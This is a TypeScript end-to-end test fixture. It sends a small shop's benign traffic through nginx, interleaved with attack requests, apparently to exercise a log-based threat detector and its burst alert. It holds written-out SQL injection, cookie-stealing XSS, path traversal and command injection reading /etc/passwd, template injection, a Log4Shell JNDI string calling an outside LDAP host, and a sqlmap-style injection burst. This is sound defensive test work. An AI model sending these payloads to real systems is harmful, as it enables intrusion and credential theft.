/**
 * What the end-to-end tests send through nginx: a small shop's benign traffic from many clients
 * (the deterministic fixture of test/helpers/site-traffic.ts), a few errors, and attacks of several
 * kinds, including a burst from one address (which raises an alert).
 */
import { shopLogLines } from "../helpers/site-traffic.ts";
import type { Stack } from "./harness.ts";

const ATTACKS: { target: string; ip: string; ua?: string }[] = [
  { target: "/search?q=%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--", ip: "203.0.113.66" },
  { target: "/products?id=1%20OR%201%3D1--&color=red", ip: "203.0.113.66" },
  { target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E&page=1", ip: "198.51.100.23" },
  { target: "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", ip: "198.51.100.23" },
  { target: "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", ip: "192.0.2.44" },
  { target: "/cart/add?item=1%3Bcat%20%2Fetc%2Fpasswd&qty=1", ip: "192.0.2.44" },
  { target: "/account/orders?since=%7B%7B7*7%7D%7D", ip: "192.0.2.45" },
  { target: "/", ip: "192.0.2.99", ua: "${jndi:ldap://198.51.100.7:1389/a}" },
  { target: "/redirect?next=%2F%2Fevil.example%2F", ip: "192.0.2.45" },
];

/** The burst first, then the shop's traffic with the errors and the other attacks spread through it. */
export async function sendShopTraffic(stack: Stack): Promise<void> {
  // A scanner's burst: more threats from one address within a minute than alerts.burst_threats (20).
  for (let i = 0; i < 24; i++) await stack.send(`/search?q=1%27%20AND%20SLEEP(${i})--`, { ip: "203.0.113.99", ua: "sqlmap/1.8.2#stable (https://sqlmap.org)" });
  const extras: (() => Promise<void>)[] = [
    ...ATTACKS.map((a) => () => stack.send(a.target, { ip: a.ip, ...(a.ua ? { ua: a.ua } : {}) })),
    ...["/missing/page", "/missing/favicon.ico", "/boom", "/admin"].map((target) => () => stack.send(target, { ip: "198.51.100.200" })),
  ];
  const lines = shopLogLines(160, 7);
  const every = Math.floor(lines.length / extras.length);
  for (const [i, line] of lines.entries()) {
    const m = /^(\S+) .*?"GET (\S+) HTTP\/1\.1" \d+ \d+ "-" "([^"]*)"$/.exec(line);
    if (m) await stack.send(m[2]!, { ip: m[1]!, ua: m[3]! });
    if (i % every === every - 1) await extras.shift()?.();
  }
  for (const extra of extras) await extra();
}
